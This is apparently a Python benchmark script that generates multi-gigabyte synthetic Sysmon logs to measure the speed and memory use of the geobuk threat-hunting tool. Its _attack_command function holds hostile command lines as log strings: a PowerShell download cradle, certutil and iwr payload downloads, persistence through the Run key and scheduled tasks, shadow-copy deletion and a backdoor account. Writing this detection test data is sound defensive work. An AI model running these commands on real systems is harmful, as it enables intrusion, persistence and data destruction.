"""geobuk's hunt over a multi-GB JSON Lines log: peak memory and events per second.

1. Generates ``--gb`` GB (default 3) of flat Sysmon-style events as JSON Lines in a temp dir, streamed
   to disk in chunks: process creation (1), network connections (3), DNS queries (22) and file
   creation (11), with varied images, parents, command lines, paths, domains and addresses and a
   small share of attacker-like ones. Fast: a pool of pre-rendered event bodies (deterministic seed)
   is combined with per-line record numbers, times and process ids, and some command lines and file
   names carry a per-line unique token, so that columns do not repeat more than real logs do.
2. Fills a rule cache in a child process (builtin rules, if any, + ``rules/windows``), then hunts the
   file in another child process (warm cache, geobuk's default workers), measuring its peak RSS: the
   child's own high-water mark (``VmHWM``), the largest process's (``ru_maxrss`` of the children), and
   the child plus any worker processes summed (``/proc`` polled every 0.1 s).
3. Deletes the file (``--keep`` leaves it).

Run: ``.venv/bin/python bench/bench_hunt_scale.py [--gb 3] [--seed 7] [--tmp DIR] [--keep]``.
Timings vary 20-40% between runs; the goal is peak memory < 1.5 GB whatever the file size.
"""

from __future__ import annotations

import argparse
import base64
import json
import os
import random
import resource
import shutil
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import orjson

DATA = Path(__file__).resolve().parents[2] / "shared" / "data"
RULES = DATA / "sigma" / "rules" / "windows"
TOKEN = "@@TOKEN@@"
CHUNK_LINES = 20_000
POOL = 40_000

# ---------------------------------------------------------------- vocabulary

USERS = ["alice.kim", "bob.lee", "chris.park", "dana.choi", "eun.jung", "farid.haddad", "grace.oh",
         "hyun.song", "ivan.petrov", "jin.yoon", "kate.moore", "leo.han", "mina.seo", "nora.lim",
         "omar.aziz", "paul.kang", "qi.zhang", "rosa.diaz", "sam.baek", "tae.ryu", "svc_backup", "svc_sql"]
HOSTS = [f"{p}-{n:03d}" for p in ("WS", "LT", "SRV", "DEV") for n in range(1, 41)]
DOMAIN = "CORP"
GOOD_DOMAINS = [
    "www.google.com", "clients2.google.com", "update.googleapis.com", "login.microsoftonline.com",
    "graph.microsoft.com", "outlook.office365.com", "teams.microsoft.com", "settings-win.data.microsoft.com",
    "ctldl.windowsupdate.com", "fe2cr.update.microsoft.com", "v10.events.data.microsoft.com",
    "github.com", "api.github.com", "objects.githubusercontent.com", "pypi.org", "files.pythonhosted.org",
    "registry.npmjs.org", "slack.com", "wss-primary.slack.com", "zoom.us", "www.bing.com",
    "edge.microsoft.com", "onedrive.live.com", "d.docs.live.net", "cdn.jsdelivr.net", "s3.amazonaws.com",
    "intranet.corp.local", "fileserver01.corp.local", "dc01.corp.local", "wpad.corp.local",
    "jira.corp.local", "confluence.corp.local", "vault.corp.local", "ocsp.digicert.com",
    "crl.sectigo.com", "time.windows.com", "dns.msftncsi.com", "www.msftconnecttest.com",
]
ODD_DOMAINS = ["raw.githubusercontent.com", "pastebin.com", "api.telegram.org", "transfer.sh",
               "ngrok-free.app", "wallet-sync.duckdns.org", "cdn-updates.dynv6.net", "docs-share.web.app",
               "careers-blockchain.site", "defi-assessment.online", "ipinfo.io", "api.ipify.org"]
PUBLIC_NETS = ["13.107.", "20.190.", "40.126.", "52.96.", "142.250.", "172.217.", "140.82.", "151.101.",
               "104.16.", "185.199.", "34.117.", "3.5.", "54.231.", "23.45.", "8.8."]
ODD_NETS = ["45.61.", "91.92.", "194.87.", "103.153.", "5.252.", "146.70."]
PROJECTS = ["billing", "etl-jobs", "portal", "ml-models", "infra", "mobile-app", "reporting", "sdk"]
DOCS = ["Q3 budget", "board minutes", "roadmap 2025", "invoice 4471", "offer letter", "team notes",
        "security review", "travel plan", "salary bands", "customer list", "NDA draft", "release notes"]
EXTS = [".docx", ".xlsx", ".pdf", ".pptx", ".txt", ".csv", ".zip", ".png", ".json", ".log", ".tmp", ".js",
        ".py", ".msi", ".exe", ".dll", ".lnk", ".ps1", ".bat", ".iso"]
SERVICES = [("netsvcs", "Schedule"), ("netsvcs", "BITS"), ("netsvcs", "wuauserv"),
            ("NetworkService", "Dnscache"),
            ("LocalService", "EventLog"), ("DcomLaunch", "PlugPlay"), ("RPCSS", "RpcSs"),
            ("LocalServiceNetworkRestricted", "Dhcp"), ("UnistackSvcGroup", "CDPUserSvc"),
            ("LocalSystemNetworkRestricted", "SysMain"), ("netsvcs", "gpsvc"), ("LocalService", "nsi")]

SYS32 = "C:\\Windows\\System32\\"
MS, WIN, OFFICE = "Microsoft Corporation", "Microsoft® Windows® Operating System", "Microsoft Office"
_IMAGE_ROWS = [  # image, OriginalFileName, Description, Company, Product
    (SYS32 + "svchost.exe", "svchost.exe", "Host Process for Windows Services", MS, WIN),
    (SYS32 + "cmd.exe", "Cmd.Exe", "Windows Command Processor", MS, WIN),
    (SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE", "Windows PowerShell", MS, WIN),
    (SYS32 + "conhost.exe", "CONHOST.EXE", "Console Window Host", MS, WIN),
    ("C:\\Windows\\explorer.exe", "EXPLORER.EXE", "Windows Explorer", MS, WIN),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe", "Google Chrome",
     "Google LLC", "Google Chrome"),
    ("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "msedge.exe", "Microsoft Edge",
     MS, "Microsoft Edge"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "WinWord.exe", "Microsoft Word",
     MS, OFFICE),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "Excel.exe", "Microsoft Excel",
     MS, OFFICE),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "Outlook.exe",
     "Microsoft Outlook", MS, OFFICE),
    (SYS32 + "taskhostw.exe", "taskhostw.exe", "Host Process for Windows Tasks", MS, WIN),
    (SYS32 + "RuntimeBroker.exe", "RuntimeBroker.exe", "Runtime Broker", MS, WIN),
    (SYS32 + "reg.exe", "reg.exe", "Registry Console Tool", MS, WIN),
    (SYS32 + "schtasks.exe", "schtasks.exe", "Task Scheduler Configuration Tool", MS, WIN),
    (SYS32 + "rundll32.exe", "RUNDLL32.EXE", "Windows host process (Rundll32)", MS, WIN),
    (SYS32 + "msiexec.exe", "msiexec.exe", "Windows® installer", MS, "Windows Installer"),
    (SYS32 + "whoami.exe", "whoami.exe", "whoami - displays logged on user information", MS, WIN),
    (SYS32 + "ipconfig.exe", "ipconfig.exe", "IP Configuration Utility", MS, WIN),
    (SYS32 + "PING.EXE", "ping.exe", "TCP/IP Ping Command", MS, WIN),
    (SYS32 + "certutil.exe", "CertUtil.exe", "CertUtil.exe", MS, WIN),
    (SYS32 + "mshta.exe", "MSHTA.EXE", "Microsoft (R) HTML Application host", MS, "Internet Explorer"),
    (SYS32 + "wbem\\WMIC.exe", "wmic.exe", "WMI Commandline Utility", MS, WIN),
    (SYS32 + "notepad.exe", "NOTEPAD.EXE", "Notepad", MS, WIN),
    ("C:\\Program Files\\Git\\cmd\\git.exe", "git.exe", "Git for Windows", "The Git Development Community",
     "Git"),
    ("C:\\Program Files\\Python311\\python.exe", "python.exe", "Python", "Python Software Foundation",
     "Python"),
    ("C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe", "electron.exe",
     "Visual Studio Code", MS, "Visual Studio Code"),
    ("C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", "Teams.exe",
     "Microsoft Teams", MS, "Microsoft Teams"),
    ("C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe", "OneDrive.exe", "Microsoft OneDrive", MS,
     "Microsoft OneDrive"),
    ("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe",
     "MpCmdRun.exe", "Microsoft Malware Protection Command Line Utility", MS, WIN),
    (SYS32 + "wbem\\WmiPrvSE.exe", "Wmiprvse.exe", "WMI Provider Host", MS, WIN),
    (SYS32 + "SearchProtocolHost.exe", "SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host",
     MS, WIN),
    ("C:\\Program Files\\nodejs\\node.exe", "node.exe", "Node.js JavaScript Runtime", "Node.js", "Node.js"),
]
# image -> (OriginalFileName, Description, Company, Product)
IMAGES = {row[0]: row[1:] for row in _IMAGE_ROWS}


def _pick(rng: random.Random, items: list) -> object:
    return items[rng.randrange(len(items))]


def _ip(rng: random.Random, nets: list[str]) -> str:
    return f"{_pick(rng, nets)}{rng.randrange(256)}.{rng.randrange(1, 255)}"


def _guid(rng: random.Random) -> str:
    h = f"{rng.getrandbits(128):032X}"
    return f"{{{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}}}"


def _hashes(rng: random.Random) -> str:
    return (f"SHA1={rng.getrandbits(160):040X},MD5={rng.getrandbits(128):032X},"
            f"SHA256={rng.getrandbits(256):064X},IMPHASH={rng.getrandbits(128):032X}")


# How often each program starts, by file name: a workstation fleet is mostly services, browsers and
# office tools; discovery and admin tools are rare (they are what rules look for).
PROCESS_WEIGHTS = {
    "svchost.exe": 20, "chrome.exe": 15, "msedge.exe": 10, "conhost.exe": 8, "runtimebroker.exe": 6,
    "taskhostw.exe": 6, "searchprotocolhost.exe": 6, "teams.exe": 6, "onedrive.exe": 4, "code.exe": 4,
    "git.exe": 4, "cmd.exe": 4, "winword.exe": 3, "excel.exe": 3, "notepad.exe": 3, "powershell.exe": 2,
    "outlook.exe": 2, "python.exe": 2, "node.exe": 2, "explorer.exe": 2, "mpcmdrun.exe": 2,
    "wmiprvse.exe": 2, "rundll32.exe": 2, "msiexec.exe": 0.5, "reg.exe": 0.3, "schtasks.exe": 0.3,
    "ipconfig.exe": 0.3, "ping.exe": 0.3, "whoami.exe": 0.1, "wmic.exe": 0.1, "certutil.exe": 0.05,
    "mshta.exe": 0,
}
NETWORK_WEIGHTS = {"chrome.exe": 30, "msedge.exe": 20, "svchost.exe": 20, "teams.exe": 10, "onedrive.exe": 8,
                   "outlook.exe": 1, "git.exe": 3, "python.exe": 1, "node.exe": 2, "code.exe": 2}


def _weighted(weights: dict[str, float]) -> tuple[list[str], list[float]]:
    names = [image for image in IMAGES if weights.get(_base(image), 0) > 0]
    return names, [weights[_base(image)] for image in names]


def _base(image: str) -> str:
    return image.rsplit("\\", 1)[-1].lower()


def _image(rng: random.Random, user: str, table: tuple[list[str], list[float]]) -> str:
    return rng.choices(table[0], table[1])[0].replace("{user}", user)


def _benign_command(rng: random.Random, image: str, user: str) -> str:
    """A plausible command line for ``image``; some carry ``TOKEN`` (a per-line unique part)."""
    name = image.rsplit("\\", 1)[-1].lower()
    q = f'"{image}"'
    n = rng.randrange(1, 9999)
    doc = _pick(rng, DOCS)
    if name == "svchost.exe":
        group, svc = _pick(rng, SERVICES)
        return f"C:\\Windows\\system32\\svchost.exe -k {group} -p -s {svc}"
    if name in ("chrome.exe", "msedge.exe"):
        kind = _pick(rng, ["renderer", "gpu-process", "utility", "crashpad-handler"])
        return (f"{q} --type={kind} --field-trial-handle={n},i,{rng.getrandbits(62)},{rng.getrandbits(62)},"
                f"262144 --lang=en-US --renderer-client-id={rng.randrange(5, 400)} "
                f"--mojo-platform-channel-handle={rng.randrange(1000, 9999)} /prefetch:{rng.randrange(1, 9)}")
    if name == "powershell.exe":
        return _pick(rng, [
            f'{q} -NoLogo -NoProfile -Command "Get-ChildItem -Path C:\\Users\\{user}\\Documents -Recurse | '
            f'Measure-Object -Property Length -Sum"',
            f'{q} -NoProfile -File "C:\\Program Files\\CorpTools\\scripts\\inventory-{n}.ps1"',
            f'{q} -Command "Import-Module ActiveDirectory; Get-ADUser {user} -Properties LastLogonDate"',
            f'{q} -NoExit -Command "Set-Location C:\\src\\{_pick(rng, PROJECTS)}"',
            f'{q} -Command "Test-NetConnection {_pick(rng, GOOD_DOMAINS)} -Port 443"',
        ])
    if name == "cmd.exe":
        return _pick(rng, [
            f'C:\\Windows\\system32\\cmd.exe /c ""C:\\Program Files\\CorpTools\\login-{n}.bat""',
            f"C:\\Windows\\system32\\cmd.exe /c dir C:\\Users\\{user}\\Downloads",
            f"cmd.exe /c echo build {n} > C:\\Users\\{user}\\AppData\\Local\\Temp\\{TOKEN}.txt",
            f"C:\\Windows\\system32\\cmd.exe /d /s /c \"npm run build --prefix "
            f"C:\\src\\{_pick(rng, PROJECTS)}\"",
        ])
    if name == "git.exe":
        return _pick(rng, ["git.exe fetch origin", "git status --porcelain", f"git log -n {n} --oneline",
                           f"git checkout -b feature/{TOKEN}", "git pull --rebase"])
    if name == "python.exe":
        return (f"{q} C:\\src\\{_pick(rng, PROJECTS)}\\scripts\\job_{n}.py --input "
                f"D:\\data\\{TOKEN}.csv")
    if name == "node.exe":
        return f'{q} "C:\\src\\{_pick(rng, PROJECTS)}\\node_modules\\.bin\\webpack" --mode production'
    if name == "msiexec.exe":
        return _pick(rng, ["C:\\Windows\\system32\\msiexec.exe /V",
                           f'msiexec.exe /i "C:\\Users\\{user}\\Downloads\\agent-{n}.msi" /qn /norestart'])
    if name == "rundll32.exe":
        return (f"C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\shell32.dll,"
                f"SHCreateLocalServerRunDll {_guid(rng)} -Embedding")
    if name == "reg.exe":
        return "reg.exe query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall /s"
    if name == "schtasks.exe":
        return "schtasks.exe /query /fo LIST /v"
    if name == "whoami.exe":
        return "whoami /upn"
    if name == "ipconfig.exe":
        return _pick(rng, ["ipconfig /all", "ipconfig /flushdns", "ipconfig /renew"])
    if name == "ping.exe":
        return f"ping -n 1 {_pick(rng, GOOD_DOMAINS)}"
    if name == "notepad.exe":
        return f'"C:\\Windows\\system32\\notepad.exe" C:\\Users\\{user}\\Documents\\{doc} {n}.txt'
    if name in ("winword.exe", "excel.exe"):
        ext = ".docx" if name == "winword.exe" else ".xlsx"
        return f'{q} /n "C:\\Users\\{user}\\Documents\\{doc}{ext}" /o ""'
    if name == "mpcmdrun.exe":
        return f"{q} -wdenable"
    if name == "wmiprvse.exe":
        return "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"
    if name == "certutil.exe":
        return "certutil.exe -store -user My"
    if name == "wmic.exe":
        return "wmic.exe logicaldisk get caption,freespace,size"
    return q


def _attack_command(rng: random.Random, user: str) -> tuple[str, str]:
    """(image, command line) of something a DPRK intrusion might run: rare in the generated log."""
    payload = base64.b64encode(f"IEX (New-Object Net.WebClient).DownloadString('http://"
                               f"{_ip(rng, ODD_NETS)}/{rng.getrandbits(32):x}')".encode("utf-16-le")).decode()
    odd = _pick(rng, ODD_DOMAINS)
    ps = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
    return _pick(rng, [
        (ps, f"powershell.exe -nop -w hidden -enc {payload}"),
        (SYS32 + "certutil.exe", f"certutil.exe -urlcache -split -f http://{_ip(rng, ODD_NETS)}/u.exe "
                                 f"C:\\Users\\Public\\{TOKEN}.exe"),
        (SYS32 + "mshta.exe", f"mshta.exe https://{odd}/{TOKEN}.hta"),
        (SYS32 + "rundll32.exe", f"rundll32.exe C:\\Users\\{user}\\AppData\\Local\\Temp\\{TOKEN}.dll,"
                                 f"DllRegisterServer"),
        (SYS32 + "reg.exe", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v OneDriveSync "
                            f"/t REG_SZ /d \"C:\\Users\\{user}\\AppData\\Roaming\\{TOKEN}.exe\" /f"),
        (SYS32 + "schtasks.exe", f'schtasks /create /sc minute /mo 5 /tn "ChromeUpdate{TOKEN}" '
                                 f'/tr "C:\\ProgramData\\{TOKEN}.exe" /f'),
        (SYS32 + "wbem\\WMIC.exe",
         'wmic process call create "cmd /c whoami /all > C:\\Windows\\Temp\\o.txt"'),
        (SYS32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
        (SYS32 + "net.exe", "net user support_adm Passw0rd! /add"),
        (ps, f"powershell -c \"iwr https://{odd}/{TOKEN}.zip -OutFile $env:TEMP\\x.zip\""),
    ])


def _process_event(rng: random.Random, attack: bool) -> dict:
    user = _pick(rng, USERS)
    if attack:
        image, cmd = _attack_command(rng, user)
        parent = _pick(rng, ["C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                             SYS32 + "cmd.exe", "C:\\Windows\\explorer.exe", SYS32 + "wbem\\WmiPrvSE.exe"])
    else:
        image = _image(rng, user, PROCESSES)
        cmd = _benign_command(rng, image, user)
        name = image.rsplit("\\", 1)[-1].lower()
        parent = (SYS32 + "services.exe" if name == "svchost.exe" else
                  SYS32 + "svchost.exe" if name in ("taskhostw.exe", "runtimebroker.exe", "wmiprvse.exe") else
                  _pick(rng, [image, "C:\\Windows\\explorer.exe"]) if name in ("chrome.exe", "msedge.exe")
                  else SYS32 + "cmd.exe" if name == "conhost.exe"
                  else
                  _pick(rng, ["C:\\Windows\\explorer.exe", SYS32 + "cmd.exe",
                              SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"]))
    meta = IMAGES.get(image, (image.rsplit("\\", 1)[-1], "", "", ""))
    return {"EventID": 1, "RuleName": "-", "ProcessGuid": _guid(rng), "Image": image,
            "FileVersion": f"10.0.{rng.randrange(17763, 26100)}.{rng.randrange(1, 5000)}",
            "Description": meta[1], "Product": meta[3], "Company": meta[2], "OriginalFileName": meta[0],
            "CommandLine": cmd, "CurrentDirectory": f"C:\\Users\\{user}\\",
            "User": f"{DOMAIN}\\{user}", "LogonGuid": _guid(rng), "LogonId": f"0x{rng.getrandbits(28):x}",
            "TerminalSessionId": 1, "IntegrityLevel": _pick(rng, ["Medium", "Medium", "High", "System"]),
            "Hashes": _hashes(rng), "ParentProcessGuid": _guid(rng),
            "ParentProcessId": rng.randrange(400, 30000), "ParentImage": parent,
            "ParentCommandLine": f'"{parent}"', "ParentUser": f"{DOMAIN}\\{user}"}


def _network_event(rng: random.Random, attack: bool) -> dict:
    user = _pick(rng, USERS)
    image = _image(rng, user, NETWORK)
    if attack:
        image = _pick(rng, [SYS32 + "rundll32.exe", SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
                            f"C:\\Users\\{user}\\AppData\\Roaming\\{rng.getrandbits(24):x}.exe"])
        port = _pick(rng, [443, 80, 8080, 8443, 3389])
    elif _base(image) == "git.exe":
        port = _pick(rng, [443, 22])
    else:
        port = _pick(rng, [443] * 9 + [80])
    return {"EventID": 3, "RuleName": "-", "ProcessGuid": _guid(rng), "Image": image,
            "User": f"{DOMAIN}\\{user}", "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false",
            "SourceIp": f"10.{rng.randrange(1, 30)}.{rng.randrange(256)}.{rng.randrange(1, 255)}",
            "SourceHostname": f"{_pick(rng, HOSTS)}.corp.local", "SourcePort": rng.randrange(49152, 65535),
            "SourcePortName": "-", "DestinationIsIpv6": "false",
            "DestinationIp": _ip(rng, ODD_NETS if attack else PUBLIC_NETS),
            "DestinationHostname": _pick(rng, ODD_DOMAINS if attack else GOOD_DOMAINS),
            "DestinationPort": port,
            "DestinationPortName": {443: "https", 80: "http", 22: "ssh"}.get(port, "-")}


def _dns_event(rng: random.Random, attack: bool) -> dict:
    user = _pick(rng, USERS)
    name = _pick(rng, ODD_DOMAINS if attack else GOOD_DOMAINS)
    if rng.random() < 0.3 and not name.endswith(".local"):
        name = f"{TOKEN}.{name}"
    return {"EventID": 22, "RuleName": "-", "ProcessGuid": _guid(rng), "QueryName": name, "QueryStatus": "0",
            "QueryResults": f"type:  5 edge-{rng.randrange(99)}.cdn.net;::ffff:{_ip(rng, PUBLIC_NETS)};",
            "Image": _image(rng, user, NETWORK), "User": f"{DOMAIN}\\{user}"}


def _file_event(rng: random.Random, attack: bool) -> dict:
    """A file written by a program, where that program writes files."""
    user = _pick(rng, USERS)
    home = f"C:\\Users\\{user}\\"
    doc = f"{_pick(rng, DOCS)} {TOKEN}"
    image = _image(rng, user, WRITERS)
    name = _base(image)
    if attack:
        image = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
        target = _pick(rng, [f"{home}AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\"
                             f"{TOKEN}.lnk", f"C:\\Users\\Public\\{TOKEN}.exe",
                             f"C:\\ProgramData\\{TOKEN}.dll"])
    elif name in ("chrome.exe", "msedge.exe"):
        target = f"{home}Downloads\\{doc}{_pick(rng, ['.pdf', '.docx', '.xlsx', '.png', '.crdownload'])}"
    elif name in ("winword.exe", "excel.exe"):
        ext = ".docx" if name == "winword.exe" else ".xlsx"
        target = _pick(rng, [f"{home}Documents\\{doc}{ext}", f"{home}AppData\\Local\\Microsoft\\Office\\"
                             f"UnsavedFiles\\{doc}{ext}"])
    elif name == "svchost.exe":
        target = _pick(rng, [f"C:\\Windows\\Prefetch\\{TOKEN}.pf",
                             f"C:\\Windows\\ServiceProfiles\\LocalService\\AppData\\Local\\{TOKEN}.dat"])
    elif name == "explorer.exe":
        target = f"{home}AppData\\Roaming\\Microsoft\\Windows\\Recent\\{doc}.lnk"
    elif name in ("teams.exe", "onedrive.exe"):
        app = "Teams" if name == "teams.exe" else "OneDrive"
        target = f"{home}AppData\\Local\\Microsoft\\{app}\\logs\\{TOKEN}{_pick(rng, ['.log', '.json'])}"
    else:  # developer tools
        ext = _pick(rng, [".js", ".map", ".json", ".pyc"])
        target = f"C:\\src\\{_pick(rng, PROJECTS)}\\build\\{TOKEN}{ext}"
    created = time.strftime("%Y-%m-%d %H:%M:%S", time.gmtime(1_740_000_000 + rng.randrange(7 * 86400)))
    return {"EventID": 11, "RuleName": "-", "ProcessGuid": _guid(rng), "Image": image,
            "TargetFilename": target, "CreationUtcTime": f"{created}.{rng.randrange(1000):03d}",
            "User": f"{DOMAIN}\\{user}"}


PROCESSES = _weighted(PROCESS_WEIGHTS)
NETWORK = _weighted(NETWORK_WEIGHTS)
WRITERS = _weighted({"chrome.exe": 10, "msedge.exe": 6, "winword.exe": 4, "excel.exe": 4, "svchost.exe": 8,
                     "explorer.exe": 4, "teams.exe": 3, "onedrive.exe": 3, "code.exe": 3, "node.exe": 2,
                     "python.exe": 1})
KINDS = [(_process_event, 0.40), (_network_event, 0.20), (_dns_event, 0.22), (_file_event, 0.18)]
ATTACK_SHARE = 0.002


def body_pool(seed: int, size: int = POOL) -> list[tuple[bytes, bytes | None]]:
    """Rendered event bodies (JSON without the opening brace), split at ``TOKEN`` if they have one."""
    rng = random.Random(seed)
    makers, weights = zip(*KINDS, strict=True)
    pool = []
    for _ in range(size):
        make = rng.choices(makers, weights)[0]
        event = make(rng, rng.random() < ATTACK_SHARE)
        event["Channel"] = "Microsoft-Windows-Sysmon/Operational"
        event["Provider_Name"] = "Microsoft-Windows-Sysmon"
        event["Computer"] = f"{_pick(rng, HOSTS)}.corp.local"
        text = orjson.dumps(event)[1:]
        head, _, tail = text.partition(TOKEN.encode())
        pool.append((head, tail) if tail else (text, None))
    return pool


def generate(path: Path, size_bytes: int, seed: int) -> tuple[int, int]:
    """Write JSON Lines until ``size_bytes``; returns (lines, bytes). Streamed: one chunk in memory."""
    pool = body_pool(seed)
    rng = random.Random(seed + 1)
    written = lines = 0
    start = 1_740_000_000  # 2025-02-19, one event every 7 ms
    with open(path, "wb", buffering=1 << 22) as out:
        while written < size_bytes:
            chunk = []
            for body, tail in rng.choices(pool, k=CHUNK_LINES):
                lines += 1
                ms = lines * 7
                secs, milli = divmod(ms, 1000)
                stamp = time.strftime("%Y-%m-%d %H:%M:%S", time.gmtime(start + secs))
                prefix = (f'{{"EventRecordID":{lines},"UtcTime":"{stamp}.{milli:03d}",'
                          f'"ProcessId":{(lines * 7919) % 30000 + 4},').encode()
                if tail is None:
                    chunk.append(prefix + body)
                else:
                    chunk.append(b"%s%s%x%s" % (prefix, body, lines * 2654435761 % (1 << 40), tail))
            data = b"\n".join(chunk) + b"\n"
            out.write(data)
            written += len(data)
    return lines, written


# ---------------------------------------------------------------- the hunt, in a child process

def child(args: argparse.Namespace) -> None:
    from geobuk.detect.hunt import hunt
    from geobuk.detect.rulesets import BUILTIN_RULES, load_ruleset

    paths = ([BUILTIN_RULES] if BUILTIN_RULES.is_dir() else []) + [Path(p) for p in args.rules]
    start = time.perf_counter()
    ruleset = load_ruleset(paths, cache_dir=Path(args.cache))
    loaded = time.perf_counter()
    out = {"rules": len(ruleset.rules), "rule_problems": len(ruleset.problems),
           "builtin": BUILTIN_RULES.is_dir(), "load_s": loaded - start}
    if args.child_logs:
        result = hunt([Path(p) for p in args.child_logs], ruleset, workers=args.workers)
        out.update(events=result.events, findings=len(result.findings), problems=len(result.problems),
                   hunt_s=time.perf_counter() - loaded, rules_hit=len({f.rule_id for f in result.findings}))
    out["vmhwm_kb"] = _status_kb(os.getpid(), "VmHWM")
    print(json.dumps(out), flush=True)


def _status_kb(pid: int, key: str) -> int:
    try:
        with open(f"/proc/{pid}/status") as fh:
            for text in fh:
                if text.startswith(key + ":"):
                    return int(text.split()[1])
    except OSError:
        pass
    return 0


def _descendants(pid: int) -> list[int]:
    out, todo = [], [pid]
    while todo:
        p = todo.pop()
        out.append(p)
        try:
            for task in os.listdir(f"/proc/{p}/task"):
                with open(f"/proc/{p}/task/{task}/children") as fh:
                    todo += [int(c) for c in fh.read().split()]
        except OSError:
            continue
    return out


def run_child(extra: list[str]) -> tuple[dict, int, float]:
    """Run this script as a child; returns (its JSON report, peak summed RSS in kB, wall seconds)."""
    cmd = [sys.executable, __file__, "--child", *extra]
    start = time.perf_counter()
    proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, text=True)
    peak = 0
    done = threading.Event()

    def poll() -> None:
        nonlocal peak
        while not done.is_set():
            peak = max(peak, sum(_status_kb(p, "VmRSS") for p in _descendants(proc.pid)))
            done.wait(0.1)

    watcher = threading.Thread(target=poll, daemon=True)
    watcher.start()
    stdout, _ = proc.communicate()
    done.set()
    watcher.join()
    wall = time.perf_counter() - start
    if proc.returncode != 0:
        raise SystemExit(f"the hunt child failed with exit code {proc.returncode}")
    return json.loads(stdout.strip().splitlines()[-1]), peak, wall


def line(name: str, value: object) -> None:
    print(f"{name}: {value}", flush=True)


def main() -> None:
    ap = argparse.ArgumentParser(description="geobuk hunt over a multi-GB JSON Lines file: memory, speed")
    ap.add_argument("--gb", type=float, default=3.0, help="size of the generated log (default 3)")
    ap.add_argument("--seed", type=int, default=7)
    ap.add_argument("--tmp", type=Path, default=None, help="where to write the log (default: system temp)")
    ap.add_argument("--rules", action="append", default=None, help=f"rules (default: {RULES})")
    ap.add_argument("--workers", type=int, default=None)
    ap.add_argument("--keep", action="store_true", help="keep the generated file")
    ap.add_argument("--child", action="store_true", help=argparse.SUPPRESS)
    ap.add_argument("--cache", help=argparse.SUPPRESS)
    ap.add_argument("--child-logs", nargs="*", default=[], help=argparse.SUPPRESS)
    args = ap.parse_args()
    args.rules = args.rules or [str(RULES)]
    if args.child:
        child(args)
        return

    folder = Path(tempfile.mkdtemp(prefix="geobuk-scale-", dir=args.tmp))
    try:
        log = folder / "sysmon.jsonl"
        start = time.perf_counter()
        lines, size = generate(log, int(args.gb * 1e9), args.seed)
        gen = time.perf_counter() - start
        line("generated", f"{size / 1e9:.2f} GB, {lines:,} events in {gen:.1f} s "
             f"({size / 1e6 / gen:.0f} MB/s)")
        common = ["--cache", str(folder / "rule-cache"), *(f"--rules={r}" for r in args.rules)]
        if args.workers is not None:
            common.append(f"--workers={args.workers}")
        warm, warm_peak, _ = run_child(common)
        line("rules loaded", f"{warm['rules']} ({warm['rule_problems']} not loaded; builtin rules "
             f"{'included' if warm['builtin'] else 'not found, so not included'})")
        line("rule cache filled in", f"{warm['load_s']:.1f} s (peak RSS {warm_peak / 1024:.0f} MB, "
             "not counted)")
        report, peak_sum, wall = run_child([*common, "--child-logs", str(log)])
        max_rss = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss  # kB on Linux; max over children
        line("events", f"{report['events']:,}")
        line("findings", f"{report['findings']:,} ({report['rules_hit']} rules hit)")
        line("reading problems", report["problems"])
        line("hunt time (warm rule cache)", f"{report['hunt_s']:.1f} s (+ {report['load_s']:.2f} s loading "
             f"rules, {wall:.1f} s wall for the child)")
        line("events/s", f"{report['events'] / report['hunt_s']:,.0f}")
        line("MB/s", f"{size / 1e6 / report['hunt_s']:.1f}")
        line("peak RSS of the hunt process (VmHWM)", f"{report['vmhwm_kb'] / 1024:.0f} MB")
        line("peak RSS, hunt process + workers summed (/proc, 0.1 s polls)", f"{peak_sum / 1024:.0f} MB")
        line("peak RSS, largest child process (ru_maxrss)", f"{max_rss / 1024:.0f} MB")
        peak = max(report["vmhwm_kb"], peak_sum)
        line("goal: peak < 1.5 GB", "met" if peak < 1.5 * 1024 * 1024 else "NOT met")
    finally:
        if args.keep:
            line("kept", folder)
        else:
            shutil.rmtree(folder, ignore_errors=True)


if __name__ == "__main__":
    main()
